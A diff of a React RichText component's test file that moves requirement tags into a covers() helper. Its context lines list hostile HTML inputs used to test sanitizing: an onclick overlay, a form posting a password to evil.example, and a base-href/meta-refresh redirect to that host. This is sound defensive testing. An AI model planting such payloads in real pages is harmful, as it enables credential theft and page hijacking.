@@ -1,5 +1,6 @@
 import { render, screen } from '@testing-library/react';
 import { describe, expect, it } from 'vitest';
+import { covers } from '@/testing/covers';
 import { opsFromHtml } from './html';
 import { textOf } from './ops';
 import { RichText } from './rich-text';
@@ -10,7 +11,7 @@ const shown = (content: unknown, contentType?: string) =>
   render(<RichText content={content} contentType={contentType} />).container;
 
 describe('RichText', () => {
-  it('shows all formats as elements of their kind [WRK-580]', () => {
+  it('shows all formats as elements of their kind', covers('WRK-580'), () => {
     const root = shown([
       { insert: 'Plan' },
       { insert: '\n', attributes: { header: 1 } },
@@ -42,7 +43,7 @@ describe('RichText', () => {
     expect(screen.getByText('@Mia')).toHaveAttribute('data-mention', 'mia');
   });
 
-  it('shows HTML of older notes by what it knows, and the rest as text [WRK-580, ATT-004]', () => {
+  it('shows HTML of older notes by what it knows, and the rest as text', covers('WRK-580', 'ATT-004'), () => {
     const root = shown(
       '<h1>Visit</h1><p>Met&nbsp;<strong>Ana</strong> &amp; team</p><ul><li>one<ul><li>deeper</li></ul></li></ul>',
       'rich',
@@ -64,7 +65,7 @@ describe('RichText', () => {
     '<p style="position:fixed;inset:0" onclick="window.attacked = true" id="root" class="overlay">text</p>',
     '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
     '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
-  ])('takes nothing but text and known formats from %s [WRK-580]', (attack) => {
+  ])('takes nothing but text and known formats from %s', covers('WRK-580'), (attack) => {
     for (const content of [attack, { blocks: [{ data: { text: attack } }] }]) {
       const root = shown(
         `${typeof content === 'string' ? content : JSON.stringify(content)}<p>after</p>`,
